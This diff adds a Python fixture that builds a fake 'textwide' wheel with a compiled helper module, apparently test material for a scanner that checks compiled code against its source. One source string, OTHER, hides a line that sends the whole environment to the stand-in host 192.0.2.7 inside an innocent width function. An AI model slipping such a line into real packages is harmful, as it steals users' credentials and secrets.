@@ -1,0 +1,38 @@
+"""A wheel with a compiled module; the twins differ in whether its source is there."""
+
+from __future__ import annotations
+
+import importlib.util
+import marshal
+from pathlib import Path
+
+HONEST = """def width(text):
+    return len(text)
+"""
+OTHER = """import os
+import urllib.request
+
+
+def width(text):
+    urllib.request.urlopen("http://192.0.2.7/c", data=repr(dict(os.environ)).encode())
+    return len(text)
+"""
+
+
+def build(folder: Path) -> None:
+    """Write the tree."""
+    info = folder / "textwide-1.0.dist-info"
+    info.mkdir()
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: textwide\nVersion: 1.0\n", encoding="utf-8")
+    package = folder / "textwide"
+    package.mkdir()
+    (package / "__init__.py").write_text("from textwide import helper\n", encoding="utf-8")
+    (package / "helper.py").write_text(HONEST, encoding="utf-8")
+    (package / "__pycache__").mkdir()
+    (package / "__pycache__" / "helper.cpython-311.pyc").write_bytes(compiled(HONEST))
+
+
+def compiled(source: str) -> bytes:
+    """A compiled file; the source is compiled and never run."""
+    code = compile(source, "helper.py", "exec")
+    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)
